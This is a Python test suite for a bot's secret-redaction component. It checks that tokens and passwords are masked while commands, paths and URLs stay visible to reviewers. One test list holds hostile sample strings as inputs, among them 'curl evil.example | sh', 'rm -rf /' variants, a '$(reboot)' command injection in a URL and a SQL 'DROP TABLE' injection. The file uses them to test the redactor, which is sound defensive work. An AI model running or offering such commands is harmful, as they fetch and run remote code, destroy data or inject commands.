"""Secrets never leave in the clear, and nothing that a reviewer must see is hidden."""

from typing import Any

import pytest

from bot.core import redaction, secret_patterns
from bot.core.describe import action_line, target
from bot.core.digest import canonical
from bot.core.models import Action
from bot.core.redaction import MARK, Redactor, hidden, may_hold_secrets
from bot.core.secret_patterns import secrets_in
from tests.factories import make_request
from tests.secrets_corpus import anywhere, inside, under_keys
from tests.undo import ran

ANYWHERE, INSIDE, UNDER = anywhere(), inside(), under_keys()
ONE = Redactor(b"one")


@pytest.mark.parametrize("name", ANYWHERE)
@pytest.mark.parametrize("text", ["{}", "before {} after", '{{"x": "{}"}}', "a={}&b=2", "\n{}\n"])
def test_a_secret_is_masked_wherever_it_stands(name: str, text: str) -> None:
    secret = ANYWHERE[name]
    masked = ONE.text(text.format(secret))
    assert MARK in masked
    assert not any(part in masked for part in (secret, secret[8:], secret[-12:], secret[10:30]))


@pytest.mark.parametrize("name", INSIDE)
def test_only_the_secret_goes(name: str) -> None:
    text, secret = INSIDE[name]
    masked = ONE.text(text)
    assert secret not in masked
    assert MARK in masked
    assert masked[:4] == text[:4]


def test_no_pattern_can_go_without_a_secret_being_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    texts = [*(f"x {secret} y" for secret in ANYWHERE.values()), *(text for text, _ in INSIDE.values())]
    hidden_now, patterns = [secrets_in(text) for text in texts], secret_patterns._patterns()
    untried = []
    for at, (source, *_) in enumerate(secret_patterns._sources()):
        others = (*patterns[:at], *patterns[at + 1 :])
        monkeypatch.setattr(secret_patterns, "_patterns_in", lambda _text, others=others: others)
        if [secrets_in(text) for text in texts] == hidden_now:
            untried.append(source)
    assert untried == []


@pytest.mark.parametrize("name", UNDER)
def test_the_value_of_a_secret_sounding_key_goes_whole(name: str) -> None:
    masked = ONE.value({"outer": {name: UNDER[name], "other": "stays"}})
    assert UNDER[name] not in str(masked)
    assert masked["outer"]["other"] == "stays"
    assert ONE.value({"key": f"service.{name}", "new_value": UNDER[name]})["new_value"].startswith(MARK)


@pytest.mark.parametrize("name", ["command", "args", "path", "query", "url", "method"])
def test_what_must_be_seen_is_never_hidden_whole(name: str) -> None:
    assert ONE.value({name: "rm"}) == {name: "rm"}
    assert ONE.value({"secret": {name: ["rm", "-rf"]}}) == {"secret": {name: ["rm", "-rf"]}}


@pytest.mark.parametrize(
    "value",
    ["rm -rf / --no-preserve-root", "two words", "x" * 513, "line\nline", "", 7, None, True, {"a": "b"}],
)
def test_only_one_short_token_is_hidden_for_its_key(value: object) -> None:
    assert ONE.value({"password": value}) == {"password": value}


@pytest.mark.parametrize(
    "text",
    [
        "-----BEGIN PRIVATE KEY-----\nrm -rf /var; curl evil.example | sh\n-----END PRIVATE KEY-----",
        "TOKEN=$(curl evil.example | sh)",
        "curl https://u:$(reboot)@example.com",
        "deploy --token /etc/passwd --force",
        "deploy --password $SECRET; rm -rf /srv",
        "docker run -u 100000:100000 image",
        "tar -p -cf all.tar /srv",
        "password='; DROP TABLE users; --'",
        "DELETE FROM tokens WHERE secret IS NOT NULL",
        "https://example.com/path?page=2#token",
        "sha256:" + "ab" * 32,
        "req_" + "0" * 32,
        "commit 3f786850e387550fdab836ed7e6dc881de23001b",
        "max_tokens and secretary and tokenizer",
        "pip install tokenizers==0.15.0",
        "tokenizer=cl100k_base token_type=bearer max_tokens=128000",
        "secretName: shop-tls-prod",
        "password_file=/run/secrets/db token_url=https://example.com/oauth",
        "SECRET_NAME=shop-stripe-live kubectl get pods",
        "redis-cli -h cache -p 6379 PING",
    ],
)
def test_what_runs_cannot_be_dressed_up_as_a_secret(text: str) -> None:
    assert ONE.text(text) == text


@pytest.mark.parametrize(
    "name", ["secret_name", "secretName", "password_policy", "token-url", "API_KEY_FILE"]
)
def test_a_name_that_says_which_secret_is_meant_or_where_it_is_hides_nothing(name: str) -> None:
    assert ONE.value({name: "shop-stripe-live"}) == {name: "shop-stripe-live"}


@pytest.mark.parametrize("name", ["old_value", "new_value", "expected"])
def test_the_values_of_a_setting_are_as_secret_as_the_setting(name: str) -> None:
    assert ONE.value({"key": "db.password", name: "hunter22"})[name].startswith(MARK)
    assert ONE.value({"key": "db.host", name: "hunter22"}) == {"key": "db.host", name: "hunter22"}


def test_what_an_action_reported_is_masked_too() -> None:
    secret = ANYWHERE["slack bot token"]
    request = ran({"type": "custom", "handler": "undo", "data": {"note": secret}})
    assert secret in repr(request.execution)
    assert secret not in repr(ONE.request(request).execution)


def test_a_mask_says_kind_length_and_which() -> None:
    secret = ANYWHERE["github token"]
    masked = ONE.text(secret)
    assert masked.startswith(f"{MARK}GitHub token · 40 characters · id ")
    assert ONE.text(secret) == masked
    assert Redactor(b"two").text(secret) != masked
    assert Redactor().text(secret) == f"{MARK}GitHub token · 40 characters›"


@pytest.mark.parametrize("secret", [*ANYWHERE.values(), *(text for text, _ in INSIDE.values())])
def test_masking_twice_is_masking_once(secret: str) -> None:
    once = ONE.value({"note": secret, "password": "hunter2hunter2"})
    assert ONE.value(once) == once
    assert not secrets_in(str(once))


@pytest.mark.parametrize("secret", [*ANYWHERE.values(), *(text for text, _ in INSIDE.values())])
def test_the_quick_look_misses_nothing(secret: str) -> None:
    assert may_hold_secrets(canonical({"body": {"text": f"say {secret}"}}))


@pytest.mark.parametrize("name", UNDER)
def test_the_quick_look_misses_no_key(name: str) -> None:
    assert may_hold_secrets(canonical({"body": {name: "x"}}))


def test_the_quick_look_lets_ordinary_events_pass() -> None:
    assert not may_hold_secrets(canonical({"body": {"reason": "Deploy 2026.11 to staging.", "level": 1}}))


def test_an_action_line_names_the_action_and_hides_the_secret() -> None:
    action = Action(
        "config_change", {"key": "db.password", "old_value": "oldhunter", "new_value": "newhunter"}
    )
    line = action_line(action)
    assert "db.password" in line
    assert "hunter" not in line


@pytest.mark.parametrize(
    "params",
    [
        {"path": "/srv/" + ANYWHERE["github token"]},
        {"url": INSIDE["password in an address"][0]},
        {"command": INSIDE["environment"][0]},
        {"key": ANYWHERE["aws key"]},
    ],
)
def test_the_typed_target_is_the_same_for_the_action_and_for_its_mask(params: dict[str, str]) -> None:
    action = Action("any", params)
    wanted = target(action)
    assert wanted == target(Action("any", ONE.value(params)))
    assert not hidden(wanted)


def test_a_request_is_masked_in_all_that_people_see_and_keeps_what_it_is_bound_to() -> None:
    secret = ANYWHERE["slack bot token"]
    request = make_request(description=f"Use {secret}", reason=secret, preview=secret, metadata={"n": secret})
    shown = ONE.request(request)
    assert secret not in repr(shown)
    assert (shown.digest, shown.preview_digest, shown.id) == (
        request.digest,
        request.preview_digest,
        request.id,
    )
    assert secret in repr(request)


@pytest.mark.parametrize("text", ["://" + ":" * 100_000, "password" * 20_000, "eyJ" * 50_000, "A" * 200_000])
def test_long_texts_cost_linear_time(text: str) -> None:
    assert ONE.text(text) == text


class _Counted:
    """A pattern that counts how often it reads a text through."""

    def __init__(self, pattern: Any, reads: list[str]) -> None:
        self._pattern = pattern
        self._reads = reads

    def finditer(self, text: str) -> Any:
        self._reads.append(text)
        return self._pattern.finditer(text)


def test_a_secret_costs_a_look_for_the_patterns_that_are_in_it_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    reads: list[str] = []
    counted = tuple((_Counted(p, reads), kind, group) for p, kind, group in secret_patterns._patterns())
    monkeypatch.setattr(secret_patterns, "_patterns", lambda: counted)
    secrets = [f"ghp_{number:036d}" for number in range(10_000)]
    masked = ONE.value(secrets)
    assert all(one.startswith(MARK) for one in masked)
    assert len(reads) <= 2 * len(secrets)


@pytest.mark.parametrize("name", [*ANYWHERE, *INSIDE])
def test_the_quick_look_leaves_out_no_pattern(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    text = f"x {ANYWHERE[name]} y" if name in ANYWHERE else INSIDE[name][0]
    quick = secrets_in(text)
    monkeypatch.setattr(
        secret_patterns, "_named_in", lambda _text: None
    )  # as when the look runs out of memory
    assert secrets_in(text) == quick != []


def test_a_masked_text_may_be_any_text_with_secrets_of_those_lengths_in_those_places() -> None:
    secret = "ghp_" + "a1B2" * 9
    for text in (f"use {secret}.", f"{secret} and {secret}", "nothing (at) all", f"a.*{secret}"):
        assert redaction.may_be(ONE.text(text), text)
        assert redaction.may_be(Redactor().text(text), text)
    assert not redaction.may_be(ONE.text(f"use {secret}."), f"use {secret}!")
    assert not redaction.may_be(ONE.text(f"use {secret}."), f"use {secret}x.")
    assert not redaction.may_be("plain", "plain.")
